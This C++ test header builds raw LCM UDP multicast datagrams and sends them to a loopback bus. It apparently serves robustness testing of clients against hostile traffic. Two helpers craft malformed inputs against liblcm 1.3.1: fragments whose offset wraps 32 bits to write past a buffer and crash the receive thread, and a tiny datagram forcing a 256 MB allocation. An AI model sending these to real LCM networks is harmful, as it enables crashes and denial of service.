#pragma once
// Raw LCM udpm datagrams, built byte by byte as liblcm 1.3.1 lays them out (lcm_udpm.c,
// udpm_util.h), and a socket that sends them to a loopback bus: what a hostile or broken client
// can put on the bus below the message level (forged fragments, absurd sizes, garbage).
//
//   short message: "LC02" seqno(u32) channel NUL payload
//   fragment:      "LC03" seqno(u32) msg_size(u32) offset(u32) fragment_no(u16) count(u16)
//                  [fragment 0 only: channel NUL] data
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

#include <cstdint>
#include <string>
#include <vector>

namespace tongue::testing {

using Datagram = std::vector<std::uint8_t>;

inline void put_u32(Datagram& d, std::uint32_t v) {
  for (int i = 3; i >= 0; --i) d.push_back(static_cast<std::uint8_t>(v >> (8 * i)));
}
inline void put_u16(Datagram& d, std::uint16_t v) {
  d.push_back(static_cast<std::uint8_t>(v >> 8));
  d.push_back(static_cast<std::uint8_t>(v));
}
inline void put_text(Datagram& d, const std::string& channel) {
  d.insert(d.end(), channel.begin(), channel.end());
  d.push_back(0);
}

inline Datagram short_datagram(std::uint32_t seqno, const std::string& channel,
                               const std::vector<std::uint8_t>& payload) {
  Datagram d;
  put_u32(d, 0x4c433032);
  put_u32(d, seqno);
  put_text(d, channel);
  d.insert(d.end(), payload.begin(), payload.end());
  return d;
}

// A fragment; channel is written (with its NUL) before data when not empty (fragment 0).
inline Datagram fragment(std::uint32_t seqno, std::uint32_t msg_size, std::uint32_t offset,
                         std::uint16_t number, std::uint16_t count, const std::string& channel,
                         const std::vector<std::uint8_t>& data) {
  Datagram d;
  put_u32(d, 0x4c433033);
  put_u32(d, seqno);
  put_u32(d, msg_size);
  put_u32(d, offset);
  put_u16(d, number);
  put_u16(d, count);
  if (!channel.empty()) put_text(d, channel);
  d.insert(d.end(), data.begin(), data.end());
  return d;
}

// The crash of liblcm 1.3.1's receive thread: a two-fragment message of 100 bytes whose second
// fragment's offset plus size wraps around 32 bits, so that its bounds check passes and the copy
// lands 4 GB past the buffer.
inline std::vector<Datagram> overflowing_fragments(std::uint32_t seqno,
                                                   const std::string& channel) {
  return {fragment(seqno, 100, 0, 0, 2, channel, std::vector<std::uint8_t>(20, 'y')),
          fragment(seqno, 100, 0xFFFFFFF0u, 1, 2, "", std::vector<std::uint8_t>(32, 'z'))};
}

// One 66-byte datagram declaring a 2^28-byte message complete in one fragment: liblcm 1.3.1
// allocates and delivers 256 MB for it.
inline Datagram huge_claim(std::uint32_t seqno, const std::string& channel) {
  return fragment(seqno, 1u << 28, 0, 0, 1, channel,
                  std::vector<std::uint8_t>(66 - 20 - channel.size() - 1, 'x'));
}

// Sends datagrams to the loopback bus 239.255.76.67:port (ttl 0, looped back to this host).
class DatagramSender {
 public:
  explicit DatagramSender(int port) : fd_(socket(AF_INET, SOCK_DGRAM, 0)) {
    const unsigned char ttl = 0, loop = 1;
    setsockopt(fd_, IPPROTO_IP, IP_MULTICAST_TTL, &ttl, sizeof ttl);
    setsockopt(fd_, IPPROTO_IP, IP_MULTICAST_LOOP, &loop, sizeof loop);
    to_.sin_family = AF_INET;
    to_.sin_port = htons(static_cast<std::uint16_t>(port));
    inet_pton(AF_INET, "239.255.76.67", &to_.sin_addr);
  }
  ~DatagramSender() {
    if (fd_ >= 0) close(fd_);
  }
  DatagramSender(const DatagramSender&) = delete;
  DatagramSender& operator=(const DatagramSender&) = delete;

  bool good() const { return fd_ >= 0; }
  // True when the whole datagram went out.
  bool send(const Datagram& d) const {
    return sendto(fd_, d.data(), d.size(), 0, reinterpret_cast<const sockaddr*>(&to_),
                  sizeof to_) == static_cast<ssize_t>(d.size());
  }

 private:
  int fd_;
  sockaddr_in to_{};
};

}  // namespace tongue::testing
